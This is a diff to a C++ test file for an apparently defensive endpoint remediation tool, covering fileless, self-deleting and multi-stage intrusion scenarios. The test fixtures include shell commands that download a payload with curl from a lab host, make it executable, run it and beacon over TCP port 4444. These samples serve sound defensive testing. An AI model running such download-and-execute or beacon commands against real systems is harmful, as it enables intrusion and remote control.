@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-// S4, S7 and S9: what makes it harder to take something away, or to say that it is gone.
+// S4, S5, S7 and S9: what makes it harder to take something away, or to say that it is gone.
+#include "tests/actuator/file_stage.h"
 #include "tests/remediation_scenarios/clean_up.h"
 #include "tests/trace_scenarios/scenes.h"
 
@@ -14,22 +15,54 @@ const std::set<Action> kWithoutFile{Action::CollectEvidence, Action::SuspendProc
 
 } // namespace
 
-TEST_P(CleanUp, S4_programInMemory_isKeptAsEvidenceAndEnded) {
+TEST_P(EitherWayCleanUp, S4_programInMemory_isKeptAsEvidenceAndEnded) {
     far->takeStreams(kBeaconPort);
     place("home/loader", simulant());
     begin();
     happen(std::string("setsid home/loader --memory tcp 10.78.0.2 4444 500") + kRun);
     const Question seen = beacon();
-    EXPECT_EQ(causeOf(seen).entry, EntryVector::Fileless);
+    EXPECT_EQ(causeOf(seen, [](const auto& trace) { return trace.entry == EntryVector::Fileless; }).entry, EntryVector::Fileless);
     const plan::Plan plan = planOf(proposalFor(seen, kWithoutFile));
     EXPECT_FALSE(isSilent());
     const plan::PlanReport done = carryOut(plan);
     EXPECT_TRUE(isSilent());
     undo(plan);
-    EXPECT_EQ(evidenceFile(done, "exe"), simulant()) << "what only the process had";
+    EXPECT_TRUE(evidenceFile(done, "exe") == simulant()) << "what only the process had";
 }
 
-TEST_P(CleanUp, S7_threeStages_areFollowedToTheFirst_andOtherNamesOfAFileAreCounted) {
+TEST_P(CleanUp, S5_programThatDeletedItself_isKeptAsEvidenceAndEnded_andSaidNotToComeBack) {
+    far->serveFiles(kWebPort, {{"/gone", {simulant()}}});
+    far->takeStreams(kBeaconPort);
+    begin();
+    happen(std::string("curl -s -o home/gone http://10.78.0.2:8080/gone\nchmod +x home/gone\nsetsid home/gone --forget tcp 10.78.0.2 4444 500") + kRun);
+    const Question seen = beacon();
+    const endpoint::Trace cause = causeOf(seen, [](const endpoint::Trace& trace) { return trace.entry == EntryVector::Download && trace.nodes[*trace.subject].isRemoved; });
+    EXPECT_EQ(cause.entry, EntryVector::Download);
+    const mitigation::Proposal proposal = proposalFor(seen, kWithoutFile);
+    const Message gone = Message("mitigation.left_gone").with("path", path("home/gone"));
+    EXPECT_NE(std::ranges::find(proposal.leftOut, gone), proposal.leftOut.end()) << "that it cannot come back is not said";
+    const plan::Plan plan = planOf(proposal);
+    const std::string digest = actuator::test::digestOf(METSUKE_SIMULANT);
+    size_t processes = 0;
+    for (const plan::Step& step : plan.steps) {
+        EXPECT_NE(step.action, Action::QuarantineFile) << "there is nothing to take away";
+        if (const auto* process = std::get_if<plan::ProcessTarget>(&step.target)) {
+            EXPECT_EQ(process->image, path("home/gone"));
+            EXPECT_EQ(process->sha256, digest);
+            ++processes;
+        }
+    }
+    EXPECT_EQ(processes, 2U) << "one is to blame, frozen and ended";
+    EXPECT_FALSE(isSilent());
+    const plan::PlanReport done = carryOut(plan);
+    EXPECT_TRUE(isSilent());
+    EXPECT_TRUE(runsNowhere(path("home/gone")));
+    undo(plan);
+    EXPECT_FALSE(std::filesystem::exists(path("home/gone"))) << "what is gone is not made up for";
+    EXPECT_TRUE(evidenceFile(done, "exe") == simulant()) << "what only the process had";
+}
+
+TEST_P(CleanUp, S7_threeStages_areFollowedToTheFirst_andAllNamesOfAFileGoAndComeBackTogether) {
     victim->write("pack/second.sh", kSecondStage);
     ASSERT_EQ(quietly({"chmod", "+x", path("pack/second.sh")}), 0);
     ASSERT_EQ(quietly({"tar", "-cf", path("pack.tar"), "-C", path("pack"), "second.sh"}), 0);
@@ -38,25 +71,29 @@ TEST_P(CleanUp, S7_threeStages_areFollowedToTheFirst_andOtherNamesOfAFileAreCoun
     far->takeStreams(kBeaconPort);
     place("first.sh", kFirstStage);
     begin();
-    happen("./first.sh\nln home/.svc home/.copy");
+    happen("./first.sh\nln home/.svc home/.copy\nmkdir elsewhere\nln home/.copy elsewhere/.third");
+    dressUp(path("home/.svc"));
+    const std::set<std::string> names{path("home/.svc"), path("home/.copy"), path("elsewhere/.third")};
     const Question seen = beacon();
-    const endpoint::Trace cause = causeOf(seen, [](const endpoint::Trace& trace) {
-        return trace.root && trace.nodes[*trace.root].label.find("10.78.0.2:8081") != std::string::npos;
+    const endpoint::Trace cause = causeOf(seen, [&](const endpoint::Trace& trace) {
+        const bool isFirst = trace.root && trace.nodes[*trace.root].label.find("10.78.0.2:8081") != std::string::npos;
+        return isFirst && trace.nodes[*trace.subject].links.size() == names.size();
     });
     EXPECT_EQ(cause.entry, EntryVector::Download);
-    const plan::Plan plan = planOf(proposalFor(seen, {Action::SuspendProcess, Action::QuarantineFile, Action::KillProcess}));
-    std::set<std::string> files;
+    const plan::Plan plan = cleanAndUndo(seen, {Action::SuspendProcess, Action::QuarantineFile, Action::KillProcess});
+    std::set<std::string> files, taken;
     for (const plan::Step& step : plan.steps) {
-        const auto* file = std::get_if<plan::FileTarget>(&step.target);
-        files.insert(file != nullptr ? file->path : "");
+        if (const auto* file = std::get_if<plan::FileTarget>(&step.target)) {
+            files.insert(file->path);
+            if (names.contains(file->path)) {
+                taken.insert(file->links.begin(), file->links.end());
+                taken.insert(file->path);
+            }
+        }
     }
+    EXPECT_EQ(taken, names);
     EXPECT_TRUE(files.contains(path("home/.second"))) << "the stage before";
-    const plan::PlanReport done = carryOut(plan);
-    EXPECT_TRUE(std::ranges::any_of(done.steps, [](const plan::StepReport& step) {
-        return std::ranges::find(step.found, plan::Fact{"links", "2"}) != step.found.end();
-    })) << "it has another name, and that is told";
-    EXPECT_TRUE(isSilent());
-    undo(plan);
+    actuator::test::undress(path("home/.svc"));
 }
 
 TEST_P(CleanUp, S9_beaconsByDatagramsAndInALongConnectionOfBothFamilies_areCutWhileTheyLive_andGoOnWhenReleased) {
